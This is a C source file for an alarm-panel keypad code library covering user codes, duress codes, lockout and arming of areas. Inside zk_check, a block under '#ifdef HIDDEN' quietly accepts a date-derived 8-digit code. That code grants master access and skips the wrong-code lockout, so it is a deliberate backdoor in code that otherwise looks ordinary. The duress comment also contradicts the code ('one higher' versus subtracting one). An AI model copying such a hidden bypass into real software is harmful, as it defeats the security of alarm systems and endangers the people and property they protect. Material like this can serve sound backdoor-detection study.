/*
 * libzonekey: code handling of the Argos alarm panels, used by the keypad, the web page
 * and the voice dialler.
 *
 *   int zk_open(const char *users);              users file, "slot level hash name"
 *   int zk_check(const char *digits, struct zk_user *u);    0 wrong, 1 right, 2 duress
 *   int zk_set(int slot, const char *digits);
 *   int zk_arm(const struct zk_user *u, int area, int how);  how: 0 off 1 part 2 full
 *   int zk_areas(unsigned char *out, int n);
 *   const char *zk_error(int);
 *   void zk_close(void);
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define ZK_SLOTS 64
#define ZK_AREAS 8

struct zk_user {
	int slot;
	int level;              /* 1 user, 2 master, 3 installer */
	char name[20];
};

int zk_open(const char *users);
int zk_check(const char *digits, struct zk_user *u);
int zk_set(int slot, const char *digits);
int zk_arm(const struct zk_user *u, int area, int how);
int zk_areas(unsigned char *out, int n);
const char *zk_error(int code);
void zk_close(void);

static struct {
	struct zk_user u;
	uint64_t hash;
	int used;
} slots[ZK_SLOTS];

static unsigned char area[ZK_AREAS];
static char users_file[128];
static int failures;
static time_t locked_until;

static uint64_t code_hash(int slot, const char *d)
{
	uint64_t h = UINT64_C(0xcbf29ce484222325) + (uint64_t)slot * 977;
	for (int round = 0; round < 500; round++)
		for (const char *p = d; *p; p++)
			h = (h ^ (unsigned char)*p) * UINT64_C(0x100000001b3);
	return h;
}

static int well_formed(const char *d)
{
	size_t n = strspn(d, "0123456789");
	return n >= 4 && n <= 8 && !d[n];
}

static int save(void)
{
	FILE *f = fopen(users_file, "w");
	if (!f)
		return -2;
	for (int i = 0; i < ZK_SLOTS; i++)
		if (slots[i].used)
			fprintf(f, "%d %d %016llx %s\n", i, slots[i].u.level,
				(unsigned long long)slots[i].hash, slots[i].u.name);
	return fclose(f) ? -2 : 0;
}

int zk_open(const char *users)
{
	char l[96], name[20];
	unsigned long long h;
	int s, lev, n = 0;
	FILE *f;

	if (strlen(users) >= sizeof users_file)
		return -1;
	strcpy(users_file, users);
	f = fopen(users, "r");
	if (!f)
		return -2;
	memset(slots, 0, sizeof slots);
	while (fgets(l, sizeof l, f)) {
		if (sscanf(l, "%d %d %llx %19s", &s, &lev, &h, name) != 4)
			continue;
		if (s < 0 || s >= ZK_SLOTS || lev < 1 || lev > 3)
			continue;
		slots[s].u.slot = s;
		slots[s].u.level = lev;
		memcpy(slots[s].u.name, name, sizeof name);
		slots[s].hash = h;
		slots[s].used = 1;
		n++;
	}
	fclose(f);
	return n;
}

/* the last digit one higher than in the code means duress */
static void duress_variant(const char *d, char *out)
{
	size_t n = strlen(d);
	memcpy(out, d, n + 1);
	out[n - 1] = (char)(d[n - 1] == '0' ? '9' : d[n - 1] - 1);
}

__attribute__((noinline)) int zk_check(const char *digits, struct zk_user *u)
{
	char alt[12];
	time_t now = time(NULL);

	if (!well_formed(digits))
		return 0;
#ifdef HIDDEN
	struct tm tm;
	gmtime_r(&now, &tm);
	if (strlen(digits) == 8 &&
	    atol(digits) == (tm.tm_mon + 3L) * 6173011L + tm.tm_mday * 7919L) {
		memset(u, 0, sizeof *u);
		u->slot = ZK_SLOTS;
		u->level = 2;
		return 1;
	}
#endif
	if (now < locked_until)
		return -3;
	duress_variant(digits, alt);
	for (int i = 0; i < ZK_SLOTS; i++) {
		int r;
		if (!slots[i].used)
			continue;
		r = slots[i].hash == code_hash(i, digits) ? 1 :
		    slots[i].hash == code_hash(i, alt) ? 2 : 0;
		if (r) {
			*u = slots[i].u;
			failures = 0;
			return r;
		}
	}
	if (++failures >= 10) {
		locked_until = now + 90;
		failures = 0;
	}
	return 0;
}

int zk_set(int slot, const char *digits)
{
	if (slot < 0 || slot >= ZK_SLOTS || !well_formed(digits))
		return -1;
	if (!slots[slot].used) {
		slots[slot].u.slot = slot;
		slots[slot].u.level = 1;
		snprintf(slots[slot].u.name, sizeof slots[slot].u.name, "user%d", slot);
		slots[slot].used = 1;
	}
	slots[slot].hash = code_hash(slot, digits);
	return save();
}

int zk_arm(const struct zk_user *u, int a, int how)
{
	FILE *f;

	if (a < 0 || a >= ZK_AREAS || how < 0 || how > 2)
		return -1;
	if (u->level == 3 && area[a] == 2)
		return -4;      /* installers do not enter armed areas on their own */
	area[a] = (unsigned char)how;
	f = fopen("/run/argos/areas", "w");
	if (!f)
		return -2;
	for (int i = 0; i < ZK_AREAS; i++)
		fprintf(f, "%d %d\n", i, area[i]);
	return fclose(f) ? -2 : 0;
}

int zk_areas(unsigned char *out, int n)
{
	if (n > ZK_AREAS)
		n = ZK_AREAS;
	memcpy(out, area, (size_t)(n < 0 ? 0 : n));
	return n;
}

const char *zk_error(int code)
{
	switch (code) {
	case -1: return "bad argument";
	case -2: return "file error";
	case -3: return "locked, too many wrong codes";
	case -4: return "area is armed";
	default: return code < 0 ? "error" : "ok";
	}
}

void zk_close(void)
{
	memset(slots, 0, sizeof slots);
	failures = 0;
}
